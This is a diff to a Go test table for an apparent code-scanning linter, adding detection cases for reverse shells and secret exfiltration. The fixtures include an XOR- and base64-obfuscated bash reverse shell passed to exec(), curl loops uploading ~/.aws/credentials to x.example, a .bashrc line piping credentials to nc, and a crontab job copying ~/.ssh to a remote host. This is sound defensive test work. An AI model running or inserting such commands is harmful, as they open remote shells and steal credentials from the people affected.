@@ -22,6 +22,9 @@ var codeCases = []lintCase{
 	// running the result of a call the analysis does not know (an XOR decoding, an input) is unresolved
 	{"d.py", "dynamic-exec", "import base64\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "warning", 3},
 	{"d.py", "dynamic-exec", "code = input()\nexec(code)\n", "warning", 2},
+	// XOR with a key the file holds is decoded, and what it hides read.
+	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "error", 2},
+	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nprint(base64.b64decode(B))\n", "", 0},
 	{"d.py", "dynamic-exec", "exec(\"print('hi')\")\n", "", 0},
 	// A module name built at run time under a package or folder named whole
 	// picks one of its own modules (a plugin by format); anything else
@@ -76,6 +79,8 @@ var codeCases = []lintCase{
 	{"x.py", "sensitive-path", "import os, requests\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.aws', 'credentials')):\n    requests.post('https://x.example/u', data=open(p).read())\n", "warning", 4},
 	{"x.js", "sensitive-path", "const os = require('os'), path = require('path'), fs = require('fs');\nfor (const f of [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.bashrc')]) {\n  console.log(fs.readFileSync(f, 'utf8').length);\n}\n", "warning", 3},
 	{"x.py", "sensitive-path", "import os\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.ssh', 'config')):\n    print(open(p).read())\n", "", 0},
+	{"x.sh", "secret-exfil", "for f in \"$HOME/.gitconfig\" \"$HOME/.aws/credentials\"; do\n  curl -s -F \"f=@$f\" https://x.example/u\ndone\n", "error", 2},
+	{"x.sh", "secret-exfil", "for f in \"$HOME/.gitconfig\" \"$HOME/.ssh/config\"; do\n  curl -s -F \"f=@$f\" https://x.example/u\ndone\n", "", 0},
 	// What a start-up file or a crontab line runs later is read as shell.
 	{"x.sh", "secret-exfil", "echo 'cat ~/.aws/credentials | nc 203.0.113.5 9000' >> ~/.bashrc\n", "error", 1},
 	{"x.sh", "sensitive-path", "job=\"17 * * * * tar czf - $HOME/.ssh | ssh u@h.example 'cat > k.tgz'\"\n( crontab -l; echo \"$job\" ) | crontab -\n", "warning", 2},
